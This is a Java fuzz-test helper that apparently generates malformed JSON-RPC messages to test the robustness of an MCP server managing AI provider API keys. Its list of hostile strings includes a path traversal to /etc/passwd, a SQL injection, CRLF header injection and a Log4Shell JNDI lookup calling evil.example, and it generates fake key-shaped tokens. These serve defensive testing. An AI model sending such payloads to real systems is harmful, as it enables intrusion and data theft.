package io.commandcenter.akm.mcp;

import io.vertx.core.buffer.Buffer;
import io.vertx.core.json.JsonArray;
import io.vertx.core.json.JsonObject;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;

/** Messages that were right once, each made wrong in one way; the same ones for the same seed. */
final class MalformedMessages {
  private static final List<String> REQUESTS =
      List.of(
          "tools/list {}",
          "tools/call {'name':'get_usage','arguments':{}}",
          "tools/call {'name':'get_usage','arguments':{'provider':'openai','period':'day'}}",
          "tools/call {'name':'estimate_cost','arguments':{'model':'m','text':'some text'}}",
          "tools/call {'name':'route_request','arguments':{'task':'chat','prompt':'Hi',"
              + "'messages':[{'role':'user','content':'Hi'}],'max_tokens':7}}",
          "tools/call {'name':'add_api_key','arguments':{'provider':'openai','label':'l'}}",
          "tools/call {'name':'validate_key','arguments':{'key_id':'key_1'},"
              + "'_meta':{'progressToken':'t'}}",
          "tools/call {'name':'rotate_key','arguments':{'key_id':'key_1','env_var':'OPENAI'},"
              + "'requestState':'a.b','inputResponses':{'page':{'action':'accept'}}}",
          "resources/list {}",
          "resources/templates/list {'cursor':null}",
          "resources/read {'uri':'api://providers'}",
          "prompts/list {}",
          "prompts/get {'name':'p','arguments':{'a':'b'}}",
          "completion/complete {'ref':{'type':'ref/prompt','name':'p'},"
              + "'argument':{'name':'a','value':'v'},'context':{'arguments':{'b':'c'}}}",
          "resources/subscribe {'uri':'api://providers'}",
          "resources/unsubscribe {'uri':'api://providers'}",
          "logging/setLevel {'level':'info'}",
          "ping {}",
          "server/discover {}",
          "initialize {'protocolVersion':'2025-11-25','capabilities':{'elicitation':{'url':{}}},"
              + "'clientInfo':{'name':'n','version':'1'}}",
          "subscriptions/listen {'notifications':{'toolsListChanged':true,"
              + "'resourceSubscriptions':['api://providers']}}");
  private static final List<String> NUMBERS =
      List.of(
          "1e400",
          "-1e400",
          "1e-400",
          "9223372036854775808",
          "-9223372036854775809",
          "0.1e1",
          "-0",
          "2147483648",
          "1" + "0".repeat(999),
          "1" + "0".repeat(5000),
          "01",
          "+1",
          "0x10",
          "NaN",
          "Infinity");
  private static final List<String> VALUES =
      List.of(
          "null", "true", "7", "-1.5", "\"\"", "\"x\"", "[]", "{}", "[[]]", "[null]", "{\"a\":{}}");
  private static final List<String> TEXTS =
      List.of(
          "\\u0000",
          "\\ud83d",
          "\\ud83d\\udd11",
          "\\udd11\\ud83d",
          "\u202e\u2066 right to left",
          "\ufeff",
          "Ä\u0308\u0301\u0301",
          "\u2028\u2029",
          "=?base64?eA==?=",
          "../../etc/passwd",
          "' or 1=1 --",
          "%00%0d%0a",
          "\\r\\nX-Evil: 1",
          "${jndi:ldap://evil.example/a}",
          "__proto__",
          "x".repeat(3000));
  private static final List<String> IDS =
      List.of(
          "null", "true", "1.5", "{}", "[1]", "\"\"", "-1", "9223372036854775807", "\"\\u0000\"");

  private final Random random;
  private final String mark;
  private int number;

  /**
   * @param mark stands in each key, right after its prefix
   */
  MalformedMessages(long seed, String mark) {
    random = new Random(seed);
    this.mark = mark;
  }

  /**
   * @param meta what the lane wants every request to say; null for nothing
   */
  Buffer next(JsonObject meta) {
    var text = message(meta);
    return switch (random.nextInt(14)) {
      case 0 -> Buffer.buffer(text.substring(0, random.nextInt(text.length())));
      case 1 -> Buffer.buffer(withValue(text, pick(VALUES)));
      case 2 -> Buffer.buffer(withValue(text, pick(NUMBERS)));
      case 3 -> Buffer.buffer(withValue(text, deep()));
      case 4 -> Buffer.buffer(twice(text));
      case 5 -> bytes(text, 0x80, 0x100);
      case 6 -> random.nextBoolean() ? bytes(text, 0, 1) : Buffer.buffer(withText(text, "\\u0000"));
      case 7 -> Buffer.buffer(withId(text, "\"" + "i".repeat(200 + random.nextInt(20_000)) + "\""));
      case 8 -> Buffer.buffer(withId(text, pick(random.nextBoolean() ? IDS : VALUES)));
      case 9 -> Buffer.buffer(withText(text, pick(TEXTS)));
      case 10 -> Buffer.buffer("[" + text + (random.nextBoolean() ? "," + text : "") + "]");
      case 11 -> Buffer.buffer(withKey(text));
      case 12 -> bytes(text, 0x20, 0x7f);
      default -> Buffer.buffer(withoutSome(text));
    };
  }

  private String message(JsonObject meta) {
    var picked = pick(REQUESTS);
    int end = picked.indexOf(' ');
    var parameters = new JsonObject(picked.substring(end + 1).replace('\'', '"'));
    if (meta != null) {
      parameters.put(
          "_meta", meta.copy().mergeIn(parameters.getJsonObject("_meta", new JsonObject())));
    }
    var message = new JsonObject().put("jsonrpc", "2.0");
    // Responses and notifications are messages too.
    switch (random.nextInt(12)) {
      case 0 -> message.put("method", "notifications/cancelled").put("params", parameters);
      case 1 -> message.put("id", "a-1").put("result", parameters);
      case 2 ->
          message.put("id", 1).put("error", new JsonObject().put("code", 1).put("message", "m"));
      default ->
          message
              .put("id", number++)
              .put("method", picked.substring(0, end))
              .put("params", parameters);
    }
    return message.encode();
  }

  /** Some value, wherever it stands, gives way to this one. */
  private String withValue(String text, String value) {
    var places = places(new JsonObject(text), new ArrayList<>());
    var replaced = pick(places);
    int at = text.indexOf(replaced);
    return text.substring(0, at) + value + text.substring(at + replaced.length());
  }

  private static List<String> places(Object value, List<String> places) {
    if (value instanceof JsonObject members) {
      members.forEach(member -> places(member.getValue(), places));
    } else if (value instanceof JsonArray elements) {
      elements.forEach(element -> places(element, places));
    }
    var written = io.vertx.core.json.Json.encode(value);
    places.add(written);
    return places;
  }

  private String deep() {
    int depth = 60 + random.nextInt(random.nextBoolean() ? 10 : 3000);
    return random.nextBoolean()
        ? "[".repeat(depth) + "]".repeat(depth)
        : "{\"a\":".repeat(depth) + "1" + "}".repeat(depth);
  }

  private String twice(String text) {
    var members =
        List.of("\"jsonrpc\":\"2.0\",", "\"id\":7,", "\"method\":\"ping\",", "\"params\":{},");
    return "{" + pick(members) + text.substring(1);
  }

  /** Some bytes become others of the range. */
  private Buffer bytes(String text, int from, int to) {
    var bytes = text.getBytes(StandardCharsets.UTF_8);
    for (int i = 1 + random.nextInt(4); i > 0; i--) {
      bytes[random.nextInt(bytes.length)] = (byte) (from + random.nextInt(to - from));
    }
    return Buffer.buffer(bytes);
  }

  private static String withId(String text, String id) {
    return text.replaceFirst("\"id\":(\"[^\"]*\"|\\d+)", "\"id\":" + id.replace("\\", "\\\\"));
  }

  /** Behind some quotation mark: in a name or in a value. */
  private String withText(String text, String more) {
    var quotes = text.chars().filter(c -> c == '"').count();
    int at = -1;
    for (int i = random.nextInt((int) quotes); i >= 0; i--) {
      at = text.indexOf('"', at + 1);
    }
    return text.substring(0, at + 1) + more + text.substring(at + 1);
  }

  private String withKey(String text) {
    return switch (random.nextInt(4)) {
      case 0 -> withValue(text, "\"" + key() + "\"");
      case 1 -> withId(text, "\"" + key() + "\"");
      case 2 -> text.replaceFirst("\"method\":\"[^\"]*\"", "\"method\":\"" + key() + "\"");
      default -> withText(text, key() + " ");
    };
  }

  private String key() {
    var prefixes = List.of("sk-ant-api03-", "sk-proj-", "AIza", "gsk_", "akm_admin_", "akmw_");
    var text = new StringBuilder(pick(prefixes)).append(mark);
    random.ints(30, 0, 36).forEach(i -> text.append(Character.forDigit(i, 36)));
    return text.toString();
  }

  private String withoutSome(String text) {
    int from = random.nextInt(text.length());
    int to = Math.min(text.length(), from + 1 + random.nextInt(12));
    return text.substring(0, from) + text.substring(to);
  }

  boolean oneIn(int of) {
    return random.nextInt(of) == 0;
  }

  private <T> T pick(List<T> of) {
    return of.get(random.nextInt(of.size()));
  }
}
